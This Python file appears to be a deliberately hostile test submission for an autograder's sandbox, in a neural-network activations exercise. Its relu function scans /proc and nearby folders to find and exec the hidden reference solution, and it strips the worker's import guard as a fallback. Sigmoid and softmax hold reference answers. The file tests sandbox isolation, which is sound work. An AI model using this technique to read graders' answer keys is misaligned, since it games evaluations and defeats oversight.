"""HOSTILE (read the reference by path): relu looks for ``solutions/activations.py`` from
/proc/<ppid>/cwd, the paths in /proc/<ppid>/cmdline, the cwd of every visible
process, the folders above its own __file__ and common places (/work/main,
/autograder/source, ~), reads it and exec's it; as a last resort it removes the
worker's import guard from sys.meta_path and imports ``solutions``.

At every isolated level (landlock, uid, bwrap) this MUST fail: relu scores 0. At the
plain ``process`` level the worker runs as the grader's user and can read what the
grader can read, so this attack DOES earn relu's points there: the documented weakness
of that level (the students' local mode; ``auto`` never picks it where another works).
sigmoid and softmax are the reference code and keep their points everywhere.
"""

from __future__ import annotations

import numbers
import os
import sys

import numpy as np
from numpy.typing import ArrayLike

from ._validate import as_float_array

ANY_RANK = tuple(range(0, 33))  # numpy supports arrays of up to 32 dimensions


def relu(x):
    """ATTACK: find the reference on disk and run it."""
    places = []
    ppid = os.getppid()
    try:
        places.append(os.readlink(f"/proc/{ppid}/cwd"))
        with open(f"/proc/{ppid}/cmdline", "rb") as f:
            places += [a.decode(errors="replace") for a in f.read().split(b"\0")]
    except OSError:
        pass
    try:
        pids = os.listdir("/proc")
    except OSError:
        pids = []
    for pid in pids:
        if pid.isdigit():
            try:
                places.append(os.readlink(f"/proc/{pid}/cwd"))
            except OSError:
                pass
    places += [
        os.path.dirname(os.path.abspath(__file__)),
        "/work/main",
        "/autograder/source",
        "/autograder",
        os.path.expanduser("~"),
    ]
    tried = set()
    for place in places:
        folder = os.path.abspath(place) if place.startswith("/") else None
        while folder and folder not in tried:
            tried.add(folder)
            path = os.path.join(folder, "solutions", "activations.py")
            if os.path.isfile(path):
                try:
                    with open(path) as f:
                        source = f.read()
                except OSError:
                    break
                source = source.replace("from ._validate", f"from {__package__}._validate")
                namespace = {"__name__": "stolen_reference"}
                exec(compile(source, path, "exec"), namespace)
                return namespace["relu"](x)
            folder = os.path.dirname(folder) if folder != "/" else None
    sys.meta_path[:] = [f for f in sys.meta_path if "Refuse" not in type(f).__name__]
    try:
        import solutions.activations

        return solutions.activations.relu(x)
    except (ImportError, OSError) as err:
        last = f"{type(err).__name__}: {err}"
    raise FileNotFoundError(
        f"read_solutions_by_path found no solutions/ in {len(tried)} folders ({last})"
    )


def sigmoid(x: ArrayLike) -> np.ndarray:
    """The logistic sigmoid, elementwise: ``sigmoid(x) = 1 / (1 + exp(-x))``.

    It squashes any real number into (0, 1); the slides use it as the activation of the
    single output neuron of a 2-class classifier (and LSTM gates use it too).

    Compute it without overflow: ``exp(-x)`` overflows for ``x = -1000``. Use only
    ``exp(-|x|)``, which lies in (0, 1]: for ``x >= 0`` the formula above, and for
    ``x < 0`` the equal form ``exp(x) / (1 + exp(x))``. No warning may be raised for
    ``x = +-1000`` (the results there are 1.0 and 0.0).

    Args:
        x: array of any shape.

    Returns:
        A new float64 array of the same shape with values in [0, 1].

    Raises:
        TypeError: if ``x`` does not hold real numbers.

    Example:
        >>> print(sigmoid(np.array([-1000.0, -1.0, 0.0, 1.0, 1000.0])).round(4))
        [0.     0.2689 0.5    0.7311 1.    ]
    """
    x = as_float_array(x, "x", "sigmoid", ndim=ANY_RANK, layout="of any shape")
    ### BEGIN SOLUTION
    e = np.exp(-np.abs(x))  # in (0, 1]: never overflows
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    ### END SOLUTION


def softmax(logits: ArrayLike, axis: int = -1) -> np.ndarray:
    """Softmax along ``axis``: ``softmax(z)_j = exp(z_j) / sum_i exp(z_i)``.

    It turns a vector of scores ("logits") into probabilities that are positive and sum
    to 1; the slides' digit network ends in a dense layer of 10 neurons with softmax
    activation, giving Pr(digit 0), ..., Pr(digit 9).

    Stability: softmax does not change when the same constant is subtracted from every
    entry, so subtract the maximum along ``axis`` first; then every ``exp`` is at most 1
    and logits like 1000 do not overflow.

    Args:
        logits: array with at least one axis, e.g. ``(N, C)`` for N examples of C classes.
        axis: the axis holding the classes (default: the last one).

    Returns:
        A new float64 array of the shape of ``logits``; it sums to 1 along ``axis``.

    Raises:
        TypeError: if ``logits`` does not hold real numbers or ``axis`` is not an int.
        ValueError: if ``logits`` is a scalar, ``axis`` is out of range or has length 0.

    Example (equal scores give equal probabilities; a large score takes nearly all):
        >>> print(softmax(np.array([[0.0, 0.0, 0.0, 0.0], [1000.0, 0.0, 0.0, 0.0]])))
        [[0.25 0.25 0.25 0.25]
         [1.   0.   0.   0.  ]]
        >>> print(softmax(np.log(np.array([1.0, 3.0]))))
        [0.25 0.75]
    """
    logits = as_float_array(logits, "logits", "softmax", ndim=ANY_RANK[1:], layout="(..., C)")
    if isinstance(axis, bool) or not isinstance(axis, numbers.Integral):
        raise TypeError(f"softmax: axis must be an int, got {axis!r}")
    if not -logits.ndim <= axis < logits.ndim:
        raise ValueError(f"softmax: axis {axis} is out of range for logits of shape {logits.shape}")
    if logits.shape[axis] == 0:
        raise ValueError(f"softmax: axis {axis} of logits {logits.shape} has no classes")
    ### BEGIN SOLUTION
    shifted = logits - logits.max(axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / e.sum(axis=axis, keepdims=True)
    ### END SOLUTION
